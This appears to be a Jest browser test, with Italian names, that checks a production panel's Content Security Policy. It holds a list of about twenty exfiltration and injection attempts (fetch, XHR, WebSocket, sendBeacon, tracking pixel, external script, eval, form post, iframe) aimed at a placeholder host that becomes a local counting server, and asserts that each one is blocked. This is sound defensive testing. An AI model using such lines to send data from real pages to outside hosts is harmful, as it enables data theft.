import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { conBrowser } from '../chromium';
import { bottone, controlla, verdetto } from './lettura-pannello';
import { BancoDelBrowser, type PannelloVero } from './pannello-vero';
import { OGLIO_PO } from './stati/cartelle';
import { diventa } from './quando';

/** Sta per l'indirizzo del server di fuori, che conta chi gli arriva. */
const FUORI = '{FUORI}';

/** Ciò che un programma ostile tenterebbe dal pannello, e la direttiva che lo ferma. */
const TENTATIVI: readonly (readonly [nome: string, direttiva: string, programma: string])[] = [
  ['fetch', 'connect-src', `fetch('${FUORI}?dati=1').catch(() => undefined)`],
  [
    'XMLHttpRequest',
    'connect-src',
    `(() => { const x = new XMLHttpRequest(); x.open('POST', '${FUORI}'); x.send('dati'); })()`,
  ],
  [
    'WebSocket',
    'connect-src',
    `(() => { try { new WebSocket('${FUORI}'.replace('http', 'ws')); } catch { /* fermato */ } })()`,
  ],
  ['EventSource', 'connect-src', `new EventSource('${FUORI}') && undefined`],
  ['sendBeacon', 'connect-src', `navigator.sendBeacon('${FUORI}', 'dati')`],
  ['immagine spia', 'img-src', `(() => { new Image().src = '${FUORI}spia.png?dati=1'; })()`],
  ['programma di fuori', 'script-src-elem', elemento('script', `src = '${FUORI}a.js'`)],
  ['programma nella pagina', 'script-src-elem', elemento('script', `textContent = 'globalThis.eseguito = 1'`)],
  [
    'programma in un attributo',
    'script-src-attr',
    `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.eseguito = 1">')`,
  ],
  ['eval', 'script-src', `(() => { try { (0, eval)('globalThis.eseguito = 1'); } catch { /* fermato */ } })()`],
  [
    'new Function',
    'script-src',
    `(() => { try { new Function('globalThis.eseguito = 1')(); } catch { /* fermato */ } })()`,
  ],
  [
    'modulo spedito',
    'form-action',
    `(() => { const m = document.createElement('form'); m.action = '${FUORI}'; m.method = 'post'; document.body.append(m); m.submit(); })()`,
  ],
  ['cornice', 'frame-src', elemento('iframe', `src = '${FUORI}'`)],
  ['oggetto', 'object-src', elemento('object', `data = '${FUORI}a.swf'`)],
  ['foglio di stile di fuori', 'style-src-elem', elemento('link', `href = '${FUORI}a.css'`, `rel = 'stylesheet'`)],
  [
    'stile con un indirizzo',
    'style-src-elem',
    elemento('style', `textContent = 'body { background: url(${FUORI}b.png) }'`),
  ],
  ['carattere di fuori', 'font-src', `new FontFace('F', 'url(${FUORI}f.woff2)').load().catch(() => undefined)`],
  ['video', 'media-src', elemento('video', `src = '${FUORI}v.mp4'`)],
  [
    'lavoratore scritto sul momento',
    'worker-src',
    `(() => { try { new Worker(URL.createObjectURL(new Blob(['1']))); } catch { /* fermato */ } })()`,
  ],
  [
    'base degli indirizzi',
    'base-uri',
    `(() => { const b = document.createElement('base'); b.href = '${FUORI}'; document.head.append(b); })()`,
  ],
];

function elemento(nome: string, ...proprieta: readonly string[]): string {
  const mette = proprieta.map((una) => `e.${una};`).join(' ');
  return `(() => { const e = document.createElement('${nome}'); ${mette} document.body.append(e); })()`;
}

const ASCOLTA = `globalThis.fermati = [];
document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => fermati.push(effectiveDirective));`;

conBrowser('la politica dei contenuti, nel pannello costruito per la produzione', () => {
  jest.setTimeout(240_000);
  let banco: BancoDelBrowser;
  let pannello: PannelloVero;
  let fuori: Server;
  let indirizzo: string;
  const arrivi: string[] = [];

  beforeAll(async () => {
    fuori = createServer(({ url = '' }, risposta) => {
      arrivi.push(url);
      risposta.end();
    });
    fuori.on('upgrade', ({ url = '' }: { url?: string }, presa: { destroy: () => void }) => {
      arrivi.push(url);
      presa.destroy();
    });
    await new Promise<void>((pronto) => fuori.listen(0, '127.0.0.1', pronto));
    indirizzo = `http://127.0.0.1:${(fuori.address() as AddressInfo).port}/`;
    banco = await BancoDelBrowser.monta();
    pannello = await banco.apri({ cartella: OGLIO_PO });
    await verdetto(pannello);
    await pannello.frame.evaluate(ASCOLTA);
  });
  afterAll(async () => {
    await banco.smonta();
    fuori.closeAllConnections();
    fuori.close();
  });

  const fermati = (): Promise<readonly string[]> => pannello.frame.evaluate('fermati');

  it('non ferma il lavoro del pannello', async () => {
    await controlla(pannello);
    for (const name of ['Comuni', 'Quadro', 'Piano', 'Controllo']) {
      await pannello.frame.getByRole('tab', { name }).click();
      await pannello.frame.getByRole('tabpanel', { name }).waitFor();
    }
    await pannello.frame.getByRole('tab', { name: 'Quadro' }).click();
    await bottone(pannello, 'Crea il quadro').click();
    await pannello.frame.locator('main').getByText('Il quadro è pronto').waitFor({ timeout: 60_000 });
    expect(await fermati()).toEqual([]);
    expect(pannello.guasti).toEqual([]);
  });

  it('il server di fuori vedrebbe chi arriva: da una pagina senza politica ci si arriva', async () => {
    await pannello.page.evaluate(`fetch('${indirizzo}prova', { mode: 'no-cors' }).then(() => undefined)`);
    expect(arrivi).toEqual(['/prova']);
    arrivi.length = 0;
  });

  it.each(TENTATIVI)('ferma: %s (%s)', async (_, direttiva, programma) => {
    await pannello.frame.evaluate('void (fermati.length = 0)');
    // Dopo un istante: durante la chiamata il browser concede a chi collauda ciò che alla pagina non concede.
    const adesso = programma.replaceAll(FUORI, indirizzo);
    await pannello.frame.evaluate(`void setTimeout(() => { ${adesso} }, 0)`);
    await diventa(async () => (await fermati()).includes(direttiva), true);
    expect(await pannello.frame.evaluate('globalThis.eseguito')).toBeUndefined();
    expect(arrivi).toEqual([]);
  });

  it('dopo tutto questo il pannello lavora ancora', async () => {
    await pannello.frame.getByRole('tab', { name: 'Controllo' }).click();
    expect(await verdetto(pannello)).toMatch(/errori? da correggere/);
  });
});
